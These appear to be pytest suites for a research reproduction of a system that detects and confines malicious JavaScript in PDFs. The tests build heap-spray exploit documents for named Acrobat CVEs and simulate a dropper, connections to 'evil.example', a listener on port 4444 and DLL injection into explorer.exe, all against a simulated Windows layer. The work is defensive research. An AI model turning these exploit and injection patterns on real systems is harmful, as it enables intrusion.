    return ProtectionPipeline(seed=31337)


class TestDetectionOutcomesByKind:
    """Every malicious archetype resolves to its paper-documented fate."""

    def reports_by_kind(self, pipe, dataset, kind):
        samples = [s for s in dataset.malicious if s.kind == kind.value]
        assert samples, f"no samples of kind {kind}"
        return [(s, pipe.scan(s.data, s.name)) for s in samples[:3]]

    def test_standard_detected(self, pipe, small_dataset):
        for sample, report in self.reports_by_kind(pipe, small_dataset, MaliciousKind.STANDARD):
            assert report.verdict.malicious, sample.name

    def test_render_detected_via_out_js(self, pipe, small_dataset):
        for sample, report in self.reports_by_kind(pipe, small_dataset, MaliciousKind.RENDER):
            assert report.verdict.malicious
            fired = set(report.verdict.features.fired())
            assert 8 in fired  # in-JS memory from the spray
            assert fired & {6, 7}, "out-JS features must carry render exploits"

    def test_egghunt_fires_memory_search(self, pipe, small_dataset):
        for sample, report in self.reports_by_kind(pipe, small_dataset, MaliciousKind.EGGHUNT):
            assert report.verdict.malicious
            assert 10 in report.verdict.features.fired()

    def test_export_launch_detected_without_spray(self, pipe, small_dataset):
        for sample, report in self.reports_by_kind(
            pipe, small_dataset, MaliciousKind.EXPORT_LAUNCH
        ):
            assert report.verdict.malicious
            fired = set(report.verdict.features.fired())
            assert {11, 12} <= fired
            assert 8 not in fired  # no heap spray in these

    def test_title_shellcode_detected(self, pipe, small_dataset):
        for sample, report in self.reports_by_kind(
            pipe, small_dataset, MaliciousKind.TITLE_SHELLCODE
        ):
            assert report.verdict.malicious

    def test_failed_cve_inert(self, pipe, small_dataset):
        for sample, report in self.reports_by_kind(pipe, small_dataset, MaliciousKind.FAILED_CVE):
            assert report.did_nothing
            assert not report.verdict.malicious

    def test_crasher_detected_caught_via_memory(self, pipe, small_dataset):
        for sample, report in self.reports_by_kind(
            pipe, small_dataset, MaliciousKind.CRASHER_DETECTED
        ):
            assert report.crashed
            assert report.verdict.malicious
            assert 8 in report.verdict.features.fired()

    def test_crasher_fn_missed(self, pipe, small_dataset):
        """The paper's 25 false negatives: crash before any evidence."""
        for sample, report in self.reports_by_kind(pipe, small_dataset, MaliciousKind.CRASHER_FN):
            assert report.crashed
            assert not report.verdict.malicious


class TestBenignBehaviour:
    def test_zero_false_positives(self, pipe, small_dataset):
        for sample in small_dataset.benign_with_js:
            report = pipe.scan(sample.data, sample.name)
            assert not report.verdict.malicious, sample.name

    def test_soap_sample_fires_network_only(self, pipe, small_dataset):
        soap = [s for s in small_dataset.benign if s.kind == "soap_js"]
        assert len(soap) == 1
        report = pipe.scan(soap[0].data, soap[0].name)
        assert not report.verdict.malicious
        assert report.verdict.features.fired() in ([9], [])


class TestConfinementEndToEnd:
    def test_dropped_malware_quarantined(self, pipe, malicious_doc_bytes):
        report = pipe.scan(malicious_doc_bytes, "m.pdf")
        assert any("update.exe" in p for p in report.quarantined_files)

    def test_alert_carries_confinement_actions(self, pipe, malicious_doc_bytes):
        report = pipe.scan(malicious_doc_bytes, "m.pdf")
        actions = [a for alert in report.alerts for a in alert.confinement_actions]
        assert any("quarantined" in a for a in actions)
        assert any("terminated sandboxed" in a for a in actions)
