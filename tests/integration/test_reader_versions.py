"""Cross-version behaviour (the paper tested Acrobat 8.0 AND 9.0).

CVE applicability differs per version, so the same sample can be a
working exploit on one reader and inert on the other — the detector's
verdict must track the *behaviour*, not the file.
"""

import random


from repro.core.pipeline import ProtectionPipeline
from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.reader.exploits import CVE
from repro.reader.payload import Payload


def exploit_doc(cve: str, seed: int = 9, spray_mb: int = 150) -> bytes:
    rng = random.Random(seed)
    builder = DocumentBuilder()
    builder.add_page("")
    builder.add_javascript(
        js.spray_script(
            spray_mb,
            Payload.dropper(),
            rng=rng,
            exploit_call=js.exploit_call_for(cve, rng),
        )
    )
    return builder.to_bytes()


def verdict_on(version: str, data: bytes):
    pipe = ProtectionPipeline(seed=2020, reader_version=version)
    return pipe.scan(data, "sample.pdf")


class TestVersionMatrix:
    def test_util_printf_only_fires_on_8(self):
        data = exploit_doc(CVE.UTIL_PRINTF)
        on8 = verdict_on("8.0", data)
        on9 = verdict_on("9.0", data)
        assert on8.verdict.malicious
        assert 11 in on8.verdict.features.fired()
        # On 9.0 the call is patched: the spray still happened (F8 at
        # exit) but no infection operations follow.
        fired9 = set(on9.verdict.features.fired())
        assert 11 not in fired9 and 12 not in fired9

    def test_collect_email_info_only_fires_on_8(self):
        data = exploit_doc(CVE.COLLAB_COLLECT_EMAIL_INFO)
        assert verdict_on("8.0", data).verdict.malicious
        fired9 = set(verdict_on("9.0", data).verdict.features.fired())
        assert not fired9 & {11, 12}

    def test_print_seps_only_fires_on_9(self):
        data = exploit_doc(CVE.PRINT_SEPS)
        assert verdict_on("9.0", data).verdict.malicious
        fired8 = set(verdict_on("8.0", data).verdict.features.fired())
        assert not fired8 & {11, 12}

    def test_get_icon_fires_on_both(self):
        data = exploit_doc(CVE.COLLAB_GET_ICON)
        assert verdict_on("8.0", data).verdict.malicious
        assert verdict_on("9.0", data).verdict.malicious

    def test_failed_cves_inert_on_both(self):
        for cve in (CVE.GET_ANNOTS, CVE.XFA_2013):
            builder = DocumentBuilder()
            builder.add_page("")
            builder.add_javascript(js.failing_probe_script(cve))
            data = builder.to_bytes()
            for version in ("8.0", "9.0"):
                report = verdict_on(version, data)
                assert report.did_nothing, (cve, version)


class TestVirtualDate:
    def test_date_now_deterministic(self):
        from repro.js import evaluate

        assert evaluate("Date.now()") == evaluate("Date.now()")

    def test_new_date_methods(self):
        from repro.js import evaluate

        assert evaluate("new Date().getFullYear()") == 2013.0
        assert evaluate("new Date(1000).getTime()") == 1000.0

    def test_date_advances_with_reader_clock(self):
        from repro.reader import Reader

        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript(
            "var t0 = Date.now();"
            "app.setTimeOut('app.alert(Date.now() - t0);', 2000);"
        )
        reader = Reader()
        outcome = reader.open(builder.to_bytes())
        reader.pump(5.0)
        elapsed_ms = float(outcome.handle.alerts[0])
        assert elapsed_ms >= 2000.0
