"""System-level confinement invariants over the whole corpus.

Table III's rules exist to guarantee two things regardless of what a
sample does: (1) no reader-spawned program ever runs unconfined, and
(2) once a document is convicted, every executable it dropped is
quarantined.  These tests check the invariants over every working
malicious sample in the small corpus — not just hand-picked cases.
"""

import pytest

from repro.core.pipeline import ProtectionPipeline


@pytest.fixture(scope="module")
def pipe():
    return ProtectionPipeline(seed=123321)


class TestNoUnconfinedExecution:
    def test_every_spawned_process_is_sandboxed_or_whitelisted(self, pipe, small_dataset):
        for sample in small_dataset.malicious:
            session = pipe.session()
            protected = pipe.protect(sample.data, sample.name)
            session.open(protected)
            current = session.reader.current_process
            reader_pid = current.pid if current else -1
            for process in session.system.processes.values():
                if process.pid == reader_pid:
                    continue
                if process.name in ("explorer.exe", "AcroRd32.exe"):
                    continue
                base = process.name.split("\\")[-1]
                assert process.sandboxed or session.system.is_whitelisted_program(base), (
                    sample.name,
                    process.name,
                )
            session.close()

    def test_convicted_documents_have_drops_quarantined(self, pipe, small_dataset):
        for sample in small_dataset.malicious:
            report = pipe.scan(sample.data, sample.name)
            if not report.verdict.malicious:
                continue
            # A conviction with an observed in-JS drop must leave
            # quarantined files behind.
            fired = set(report.verdict.features.fired())
            if 11 in fired and not report.crashed:
                assert report.quarantined_files, sample.name

    def test_dll_injection_never_lands_in_victims(self, pipe, small_dataset):
        injectors = [
            s for s in small_dataset.malicious if s.meta.get("payload") == "dll_injector"
        ]
        for sample in injectors:
            session = pipe.session()
            protected = pipe.protect(sample.data, sample.name)
            session.open(protected)
            explorer = next(
                p for p in session.system.processes.values() if p.name == "explorer.exe"
            )
            foreign = [
                m
                for m in explorer.modules
                if m not in ("explorer.exe", "ntdll.dll", "kernel32.dll",
                             "ctxmon_trampoline.dll")
            ]
            assert not foreign, (sample.name, foreign)
            session.close()


class TestZeroToleranceHardening:
    def test_brute_force_keys_convict_immediately(self, pipe):
        """An attacker spraying many guessed keys at the SOAP endpoint
        gets convicted on the very first wrong key."""
        from repro.attacks.mimicry import fake_message_attack_document

        report = pipe.scan(fake_message_attack_document(seed=7), "brute.pdf")
        assert report.fake_messages >= 1
        assert report.verdict.malicious

    def test_duplicate_enter_is_tolerated_for_valid_keys(self, pipe, js_doc_bytes):
        """Nested enters with the *valid* key (dynamic scripts) are fine
        — only invalid keys trigger zero tolerance."""
        protected = pipe.protect(js_doc_bytes, "nested.pdf")
        session = pipe.session()
        session.monitor.register_document(protected.key_text, "nested.pdf", protected.features)
        assert session.monitor.on_context_enter(protected.key_text, 1, False)
        assert session.monitor.on_context_enter(protected.key_text, 1, True)
        session.monitor.on_context_leave(protected.key_text, 1, True)
        session.monitor.on_context_leave(protected.key_text, 1, False)
        assert not session.monitor.fake_messages
        session.close()

    def test_leave_for_inactive_valid_key_is_replay(self, pipe, js_doc_bytes):
        protected = pipe.protect(js_doc_bytes, "replay.pdf")
        session = pipe.session()
        session.monitor.register_document(protected.key_text, "replay.pdf", protected.features)
        session.monitor.on_context_leave(protected.key_text, 1, False)
        assert session.monitor.fake_messages
        session.close()
