"""Shared fixtures for the test suite."""

from __future__ import annotations

import pytest

from repro.core.pipeline import ProtectionPipeline
from repro.corpus import CorpusConfig, build_dataset
from repro.pdf.builder import DocumentBuilder


@pytest.fixture(scope="session")
def pipeline() -> ProtectionPipeline:
    """A shared pipeline (fresh sessions are created per open anyway)."""
    return ProtectionPipeline(seed=4242)


@pytest.fixture(scope="session")
def small_dataset():
    """A small but complete corpus (every sample kind present)."""
    return build_dataset(CorpusConfig(n_benign=40, n_benign_with_js=12, n_malicious=40))


@pytest.fixture()
def simple_doc_bytes() -> bytes:
    builder = DocumentBuilder()
    builder.add_page("Hello")
    return builder.to_bytes()


@pytest.fixture()
def js_doc_bytes() -> bytes:
    builder = DocumentBuilder()
    builder.add_page("With JS")
    builder.add_javascript("var x = 1 + 1; app.alert('x=' + x);")
    return builder.to_bytes()


def spray_js(spray_mb: int = 150, cve: str = "CVE-2009-0927") -> str:
    """Helper used by reader/core tests: a spray + exploit script."""
    from repro.corpus import js_snippets as js
    from repro.reader.payload import Payload
    import random

    return js.spray_script(
        spray_mb,
        Payload.dropper(),
        rng=random.Random(1),
        exploit_call=js.exploit_call_for(cve, random.Random(1)),
    )


@pytest.fixture()
def malicious_doc_bytes() -> bytes:
    builder = DocumentBuilder()
    builder.add_page("")
    builder.add_javascript(spray_js())
    return builder.to_bytes()
