"""Unit tests for syscall dispatch, IAT hooking and the trampoline."""

from repro.winapi.hooks import (
    DETECTOR_EVENT_PORT,
    HOOK_DLL_NAME,
    HookAction,
    IATHookLayer,
    TRAMPOLINE_DLL_NAME,
    TrampolineDLL,
)
from repro.winapi.process import System
from repro.winapi.syscalls import API, SyscallGateway


def make_reader_with_gateway():
    system = System()
    reader = system.spawn_reader()
    return system, reader, SyscallGateway(system)


class TestGatewayEffects:
    def test_file_creation(self):
        system, reader, gateway = make_reader_with_gateway()
        result = gateway.invoke(reader, API.NT_CREATE_FILE, path="C:\\x.exe", data=b"MZ")
        assert result.success
        assert system.filesystem.exists("C:\\x.exe")

    def test_url_download_creates_file(self):
        system, reader, gateway = make_reader_with_gateway()
        gateway.invoke(
            reader, API.URL_DOWNLOAD_TO_FILE, path="C:\\dl.exe", data=b"MZ", url="http://e/x"
        )
        assert system.filesystem.exists("C:\\dl.exe")

    def test_connect_recorded(self):
        system, reader, gateway = make_reader_with_gateway()
        gateway.invoke(reader, API.CONNECT, host="evil.example", port=443)
        conns = system.network.connections_for(reader.pid)
        assert conns and conns[0].host == "evil.example"

    def test_listen_recorded(self):
        system, reader, gateway = make_reader_with_gateway()
        gateway.invoke(reader, API.LISTEN, port=4444)
        assert any(c.kind == "listen" for c in system.network.connections)

    def test_process_creation_spawns_child(self):
        system, reader, gateway = make_reader_with_gateway()
        result = gateway.invoke(reader, API.NT_CREATE_USER_PROCESS, image="mal.exe")
        assert result.value.name == "mal.exe"
        assert result.value.parent_pid == reader.pid

    def test_remote_thread_injects_module(self):
        system, reader, gateway = make_reader_with_gateway()
        victim = system.spawn("explorer.exe")
        result = gateway.invoke(
            reader, API.CREATE_REMOTE_THREAD, target_pid=victim.pid, dll="evil.dll"
        )
        assert result.success
        assert victim.has_module("evil.dll")

    def test_remote_thread_dead_target_fails(self):
        system, reader, gateway = make_reader_with_gateway()
        victim = system.spawn("explorer.exe")
        victim.crash("gone")
        result = gateway.invoke(
            reader, API.CREATE_REMOTE_THREAD, target_pid=victim.pid, dll="evil.dll"
        )
        assert not result.success

    def test_memory_search_probe(self):
        system, reader, gateway = make_reader_with_gateway()
        result = gateway.invoke(reader, API.IS_BAD_READ_PTR, address=0x400000)
        assert result.success

    def test_event_log_grows_with_sequence(self):
        system, reader, gateway = make_reader_with_gateway()
        gateway.invoke(reader, API.CONNECT, host="a", port=1)
        gateway.invoke(reader, API.CONNECT, host="b", port=2)
        assert [e.seq for e in gateway.log] == [1, 2]

    def test_event_carries_memory_snapshot(self):
        system, reader, gateway = make_reader_with_gateway()
        reader.alloc("spray", 500 * 1024 * 1024)
        gateway.invoke(reader, API.CONNECT, host="a", port=1)
        assert gateway.log[-1].memory_private_usage >= 500 * 1024 * 1024


class TestEventCategories:
    def test_categories(self):
        system, reader, gateway = make_reader_with_gateway()
        cases = {
            API.NT_CREATE_FILE: "malware_drop",
            API.URL_DOWNLOAD_TO_CACHE_FILE: "malware_drop",
            API.CONNECT: "network",
            API.LISTEN: "network",
            API.NT_ADD_ATOM: "memory_search",
            API.NT_CREATE_PROCESS: "process_create",
            API.CREATE_REMOTE_THREAD: "dll_inject",
        }
        for api, category in cases.items():
            gateway.invoke(reader, api, target_pid=0)
            assert gateway.log[-1].category == category


class TestHooks:
    def test_hook_observes_and_forwards(self):
        system, reader, gateway = make_reader_with_gateway()
        channel = system.network.register_service("127.0.0.1", DETECTOR_EVENT_PORT, "events")
        received = []
        channel.subscribe(received.append)
        layer = IATHookLayer(reader, channel)
        reader.iat_hooks = layer
        gateway.invoke(reader, API.NT_CREATE_FILE, path="C:\\a.exe", data=b"MZ")
        assert len(received) == 1
        assert received[0].api == API.NT_CREATE_FILE

    def test_hook_reject_blocks_effect(self):
        system, reader, gateway = make_reader_with_gateway()
        layer = IATHookLayer(
            reader,
            None,
            rules={API.CREATE_REMOTE_THREAD: lambda p, e: HookAction.REJECT},
        )
        reader.iat_hooks = layer
        victim = system.spawn("explorer.exe")
        result = gateway.invoke(
            reader, API.CREATE_REMOTE_THREAD, target_pid=victim.pid, dll="evil.dll"
        )
        assert result.rejected_by_hook
        assert not victim.has_module("evil.dll")
        assert layer.rejected

    def test_unhooked_api_invisible(self):
        system, reader, gateway = make_reader_with_gateway()
        layer = IATHookLayer(reader, None, hooked_apis=(API.CONNECT,))
        reader.iat_hooks = layer
        gateway.invoke(reader, API.NT_CREATE_FILE, path="C:\\b.txt")
        assert not layer.captured

    def test_trampoline_attaches_to_reader_only(self):
        system = System()
        trampoline = TrampolineDLL()
        reader = system.spawn_reader()
        other = system.spawn("notepad.exe")
        assert trampoline.on_process_start(reader, None) is not None
        assert trampoline.on_process_start(other, None) is None
        assert reader.has_module(HOOK_DLL_NAME)
        assert other.has_module(TRAMPOLINE_DLL_NAME)
        assert not other.has_module(HOOK_DLL_NAME)


class TestSandbox:
    def test_contains_and_terminates(self):
        from repro.winapi.sandbox import Sandbox

        system = System()
        sandbox = Sandbox(system)
        child = sandbox.run("mal.exe")
        assert child.sandboxed
        assert sandbox.is_contained(child)
        system.filesystem.create("mal.exe", b"MZ")
        sandbox.terminate_and_isolate(child, "alert")
        assert not child.alive
        assert system.filesystem.get("mal.exe").quarantined

    def test_record_requires_containment(self):
        import pytest
        from repro.winapi.sandbox import Sandbox

        system = System()
        sandbox = Sandbox(system)
        outside = system.spawn("x.exe")
        with pytest.raises(ValueError):
            sandbox.record(outside, "nope")


class TestFilesystem:
    def test_quarantine_blocks_read(self):
        import pytest
        from repro.winapi.filesystem import FileSystem

        fs = FileSystem()
        fs.create("C:\\mal.exe", b"MZ")
        assert fs.quarantine("C:\\mal.exe")
        with pytest.raises(PermissionError):
            fs.read("C:\\mal.exe")

    def test_quarantine_idempotent(self):
        from repro.winapi.filesystem import FileSystem

        fs = FileSystem()
        fs.create("a.exe", b"")
        assert fs.quarantine("a.exe")
        assert not fs.quarantine("a.exe")
        assert len(fs.quarantine_log) == 1

    def test_path_normalization(self):
        from repro.winapi.filesystem import FileSystem

        fs = FileSystem()
        fs.create("C:/Temp/File.EXE", b"x")
        assert fs.exists("c:\\temp\\file.exe")

    def test_executable_detection(self):
        from repro.winapi.filesystem import FileSystem

        assert FileSystem.is_executable("a.exe")
        assert FileSystem.is_executable("b.DLL")
        assert not FileSystem.is_executable("c.pdf")


class TestNetworkChannels:
    def test_loopback_queue_then_subscribe(self):
        from repro.winapi.network import Network

        network = Network()
        channel = network.register_service("127.0.0.1", 9999, "test")
        channel.send("early")
        received = []
        channel.subscribe(received.append)
        channel.send("late")
        assert received == ["early", "late"]

    def test_rpc_roundtrip(self):
        from repro.winapi.network import Network

        network = Network()
        network.register_rpc("127.0.0.1", 48621, lambda req: {"echo": req})
        assert network.call_rpc("127.0.0.1", 48621, "hi") == {"echo": "hi"}

    def test_rpc_refused_when_absent(self):
        import pytest
        from repro.winapi.network import Network

        with pytest.raises(ConnectionRefusedError):
            Network().call_rpc("127.0.0.1", 1, None)
