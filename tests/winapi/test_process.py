"""Unit tests for the simulated process/system substrate."""

import pytest

from repro.winapi.clock import VirtualClock
from repro.winapi.process import ProcessState, System, READER_BASE_MEMORY


class TestVirtualClock:
    def test_monotonic(self):
        clock = VirtualClock()
        clock.advance(1.5)
        clock.advance(0.5)
        assert clock.now() == 2.0

    def test_negative_advance_rejected(self):
        with pytest.raises(ValueError):
            VirtualClock().advance(-1)


class TestProcessMemory:
    def test_base_memory(self):
        system = System()
        reader = system.spawn_reader()
        assert reader.memory_counters().private_usage == READER_BASE_MEMORY

    def test_alloc_accumulates_per_bucket(self):
        system = System()
        proc = system.spawn("x.exe", base_memory=100)
        proc.alloc("doc1:js", 50)
        proc.alloc("doc1:js", 25)
        proc.alloc("doc2:render", 10)
        assert proc.private_bytes == 185

    def test_free_releases_whole_bucket(self):
        system = System()
        proc = system.spawn("x.exe", base_memory=0)
        proc.alloc("a", 100)
        assert proc.free("a") == 100
        assert proc.private_bytes == 0
        assert proc.free("a") == 0

    def test_peak_tracks_high_water(self):
        system = System()
        proc = system.spawn("x.exe", base_memory=0)
        proc.alloc("a", 500)
        proc.free("a")
        assert proc.memory_counters().peak_working_set_size == 500

    def test_set_bucket_replaces(self):
        system = System()
        proc = system.spawn("x.exe", base_memory=0)
        proc.alloc("a", 100)
        proc.set_bucket("a", 30)
        assert proc.private_bytes == 30

    def test_negative_alloc_rejected(self):
        system = System()
        proc = system.spawn("x.exe")
        with pytest.raises(ValueError):
            proc.alloc("a", -1)


class TestLifecycle:
    def test_crash_sets_state_once(self):
        system = System()
        proc = system.spawn("x.exe")
        proc.crash("boom")
        proc.exit("late")
        assert proc.state is ProcessState.CRASHED
        assert proc.exit_reason == "boom"
        assert not proc.alive

    def test_terminate(self):
        system = System()
        proc = system.spawn("x.exe")
        proc.terminate("confined")
        assert proc.state is ProcessState.TERMINATED

    def test_modules(self):
        system = System()
        proc = system.spawn("x.exe")
        proc.load_module("evil.dll")
        proc.load_module("evil.dll")
        assert proc.modules.count("evil.dll") == 1
        assert proc.has_module("ntdll.dll")

    def test_spawn_assigns_unique_pids(self):
        system = System()
        pids = {system.spawn("a.exe").pid for _ in range(5)}
        assert len(pids) == 5

    def test_parent_linkage(self):
        system = System()
        parent = system.spawn("p.exe")
        child = system.spawn("c.exe", parent=parent)
        assert child.parent_pid == parent.pid

    def test_whitelist(self):
        system = System()
        assert system.is_whitelisted_program("WerFault.exe")
        assert not system.is_whitelisted_program("evil.exe")

    def test_running_filter(self):
        system = System()
        a = system.spawn("a.exe")
        b = system.spawn("b.exe")
        b.crash("x")
        assert a in system.running()
        assert b not in system.running()
