"""Unit tests for the high-level PDFDocument API."""

from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument
from repro.pdf.objects import PDFDict, PDFName, PDFRef, PDFString


class TestNavigation:
    def test_catalog_and_pages(self):
        builder = DocumentBuilder()
        builder.add_page("one")
        builder.add_page("two")
        doc = builder.build()
        assert str(doc.catalog.get("Type")) == "Catalog"
        assert doc.page_count == 2

    def test_info_dictionary(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.set_info(Title="My Title", Author="An Author")
        doc = PDFDocument.from_bytes(builder.to_bytes())
        title = doc.resolve(doc.info.get("Title"))
        assert isinstance(title, PDFString)
        assert title.to_text() == "My Title"

    def test_unicode_title(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.set_info(Title="sled邐邐end")
        doc = PDFDocument.from_bytes(builder.to_bytes())
        title = doc.resolve(doc.info.get("Title"))
        assert title.to_text() == "sled邐邐end"

    def test_page_tree_cycle_safe(self):
        builder = DocumentBuilder()
        page_ref = builder.add_page("x")
        page = builder.document.resolve_dict(page_ref)
        # Introduce a cycle: page points back at the page tree root.
        page[PDFName("Kids")] = builder.document.catalog.get("Pages")
        assert builder.document.page_count >= 1


class TestJavascriptActions:
    def test_open_action_found(self, js_doc_bytes):
        doc = PDFDocument.from_bytes(js_doc_bytes)
        actions = list(doc.iter_javascript_actions())
        assert len(actions) == 1
        assert actions[0].trigger == "OpenAction"

    def test_names_tree_action_found(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var n = 1;", trigger="Names", name="init")
        doc = PDFDocument.from_bytes(builder.to_bytes())
        (action,) = list(doc.iter_javascript_actions())
        assert action.trigger == "Names"
        assert action.name == "init"

    def test_aa_action_found(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var c = 1;", trigger="AA:WillClose")
        doc = PDFDocument.from_bytes(builder.to_bytes())
        (action,) = list(doc.iter_javascript_actions())
        assert action.trigger == "AA:WillClose"

    def test_next_chain_followed(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var a = 1;", next_scripts=["var b = 2;", "var c = 3;"])
        doc = PDFDocument.from_bytes(builder.to_bytes())
        codes = [doc.get_javascript_code(a) for a in doc.iter_javascript_actions()]
        assert codes == ["var a = 1;", "var b = 2;", "var c = 3;"]

    def test_names_with_next_chain(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript(
            "var a = 1;", trigger="Names", name="seq", next_scripts=["var b = 2;"]
        )
        doc = PDFDocument.from_bytes(builder.to_bytes())
        codes = [doc.get_javascript_code(a) for a in doc.iter_javascript_actions()]
        assert codes == ["var a = 1;", "var b = 2;"]

    def test_get_set_string_code(self, js_doc_bytes):
        doc = PDFDocument.from_bytes(js_doc_bytes)
        (action,) = list(doc.iter_javascript_actions())
        doc.set_javascript_code(action, "var replaced = true;")
        assert doc.get_javascript_code(action) == "var replaced = true;"

    def test_get_set_stream_code_preserves_filters(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var original = 1;", encoding_levels=2)
        doc = PDFDocument.from_bytes(builder.to_bytes())
        (action,) = list(doc.iter_javascript_actions())
        doc.set_javascript_code(action, "var swapped = 2;")
        doc2 = PDFDocument.from_bytes(doc.to_bytes())
        (action2,) = list(doc2.iter_javascript_actions())
        assert doc2.get_javascript_code(action2) == "var swapped = 2;"
        stream = doc2.resolve(action2.dictionary.get("JS"))
        assert stream.encoding_levels == 2

    def test_force_stream_representation(self, js_doc_bytes):
        doc = PDFDocument.from_bytes(js_doc_bytes)
        (action,) = list(doc.iter_javascript_actions())
        doc.set_javascript_code(action, "var s = 1;", prefer_stream=True)
        assert isinstance(action.dictionary.get("JS"), PDFRef)

    def test_has_javascript(self, simple_doc_bytes, js_doc_bytes):
        assert not PDFDocument.from_bytes(simple_doc_bytes).has_javascript()
        assert PDFDocument.from_bytes(js_doc_bytes).has_javascript()

    def test_add_javascript_via_document_api(self, simple_doc_bytes):
        doc = PDFDocument.from_bytes(simple_doc_bytes)
        doc.add_javascript("var added = 1;", trigger="OpenAction")
        doc2 = PDFDocument.from_bytes(doc.to_bytes())
        (action,) = list(doc2.iter_javascript_actions())
        assert doc2.get_javascript_code(action) == "var added = 1;"

    def test_inline_open_action_dict(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        catalog = builder.document.catalog
        catalog[PDFName("OpenAction")] = PDFDict(
            {PDFName("S"): PDFName("JavaScript"), PDFName("JS"): PDFString(b"var i = 1;")}
        )
        doc = PDFDocument.from_bytes(builder.to_bytes())
        (action,) = list(doc.iter_javascript_actions())
        assert doc.get_javascript_code(action) == "var i = 1;"
