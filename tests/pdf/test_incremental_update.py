"""Tests for incremental-update serialisation + instrumentation mode."""

import pytest

from repro.core.instrument import Instrumenter
from repro.core.keys import KeyStore
from repro.corpus.sized import document_of_size
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument
from repro.pdf.objects import PDFDict, PDFName, PDFRef, PDFString
from repro.pdf.parser import parse_pdf
from repro.pdf.writer import write_incremental_update


def base_doc() -> bytes:
    builder = DocumentBuilder()
    builder.add_page("incremental test")
    builder.add_javascript("app.alert('v1');")
    return builder.to_bytes()


class TestWriter:
    def test_original_bytes_preserved(self):
        original = base_doc()
        doc = PDFDocument.from_bytes(original)
        (action,) = list(doc.iter_javascript_actions())
        doc.set_javascript_code(action, "app.alert('v2');")
        holder = action.holder_ref or doc.trailer.get("Root")
        updated = write_incremental_update(original, doc.store, doc.trailer, [holder])
        assert updated.startswith(original)

    def test_new_definition_shadows_old(self):
        original = base_doc()
        doc = PDFDocument.from_bytes(original)
        (action,) = list(doc.iter_javascript_actions())
        doc.set_javascript_code(action, "app.alert('v2');")
        holder = action.holder_ref or doc.trailer.get("Root")
        updated = write_incremental_update(original, doc.store, doc.trailer, [holder])
        reparsed = PDFDocument.from_bytes(updated)
        (action2,) = list(reparsed.iter_javascript_actions())
        assert reparsed.get_javascript_code(action2) == "app.alert('v2');"

    def test_prev_chain_present(self):
        original = base_doc()
        doc = PDFDocument.from_bytes(original)
        updated = write_incremental_update(
            original, doc.store, doc.trailer, [doc.trailer.get("Root")]
        )
        assert b"/Prev" in updated[len(original):]
        parsed = parse_pdf(updated)
        assert not parsed.used_recovery_scan

    def test_added_object_included(self):
        original = base_doc()
        doc = PDFDocument.from_bytes(original)
        new_ref = doc.add_object(PDFDict({PDFName("New"): PDFString(b"thing")}))
        updated = write_incremental_update(original, doc.store, doc.trailer, [new_ref])
        reparsed = PDFDocument.from_bytes(updated)
        value = reparsed.resolve(new_ref)
        assert value.get("New") == PDFString(b"thing")

    def test_noncontiguous_subsections(self):
        original = base_doc()
        doc = PDFDocument.from_bytes(original)
        refs = [PDFRef(1, 0), doc.add_object(PDFDict())]
        updated = write_incremental_update(original, doc.store, doc.trailer, refs)
        assert parse_pdf(updated).root  # both sections readable


class TestIncrementalInstrumentation:
    def make(self):
        return Instrumenter(key_store=KeyStore.create(77), seed=77)

    def test_equivalent_verdict_to_rewrite(self):
        data = base_doc()
        incremental = self.make().instrument(data, "a.pdf", output="incremental")
        assert incremental.data.startswith(data)
        doc = PDFDocument.from_bytes(incremental.data)
        (action,) = list(doc.iter_javascript_actions())
        assert "SOAP.request" in doc.get_javascript_code(action)
        assert "CtxMonKey" in doc.catalog

    def test_executes_identically(self):
        from repro.reader import Reader

        data = base_doc()
        result = self.make().instrument(data, "a.pdf", output="incremental")
        # Without a detector, the SOAP calls go nowhere, but the wrapped
        # original still runs.
        outcome = Reader().open(result.data)
        assert outcome.handle.alerts == ["v1"]

    def test_large_file_much_faster_than_rewrite(self):
        data = document_of_size(6 * 1024 * 1024, scripts=1, seed=3)
        instrumenter = self.make()
        rewrite = instrumenter.instrument(data, "big1.pdf", output="rewrite")
        instrumenter2 = Instrumenter(key_store=KeyStore.create(78), seed=78)
        incremental = instrumenter2.instrument(data, "big2.pdf", output="incremental")
        # The incremental output only appends a few KB (the robust
        # property; wall-clock comparison is noisy at this size).
        assert len(incremental.data) - len(data) < 64 * 1024
        assert incremental.timings.instrumentation < rewrite.timings.instrumentation * 2

    def test_detection_pipeline_with_incremental_mode(self, malicious_doc_bytes):
        from repro.core.pipeline import ProtectionPipeline

        pipe = ProtectionPipeline(seed=79)
        result = pipe.instrumenter.instrument(
            malicious_doc_bytes, "mal.pdf", output="incremental"
        )
        session = pipe.session()
        session.monitor.register_document(result.key_text, "mal.pdf", result.features)
        session.monitor.attach_reader_process(session.reader.process())
        outcome = session.reader.open(result.data, "mal.pdf")
        verdict = session.monitor.verdict_for(result.key_text)
        assert verdict.malicious
        session.close()

    def test_deinstrumentation_of_incremental_output(self):
        from repro.core.deinstrument import deinstrument

        data = base_doc()
        result = self.make().instrument(data, "a.pdf", output="incremental")
        restored = deinstrument(result.data, result.spec)
        doc = PDFDocument.from_bytes(restored)
        (action,) = list(doc.iter_javascript_actions())
        assert doc.get_javascript_code(action) == "app.alert('v1');"

    def test_invalid_mode_rejected(self):
        with pytest.raises(ValueError):
            self.make().instrument(base_doc(), "a.pdf", output="patch")
