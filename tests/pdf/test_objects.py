"""Unit tests for the PDF object model."""

from repro.pdf.objects import (
    IndirectObject,
    ObjectStore,
    PDFArray,
    PDFDict,
    PDFName,
    PDFNull,
    PDFRef,
    PDFStream,
    PDFString,
)


class TestPDFName:
    def test_equality_is_on_decoded_value(self):
        assert PDFName("JavaScript") == "JavaScript"

    def test_from_raw_resolves_hex_escape(self):
        name = PDFName.from_raw("JavaScr#69pt")
        assert name == "JavaScript"
        assert name.raw == "JavaScr#69pt"
        assert name.uses_hex_escape

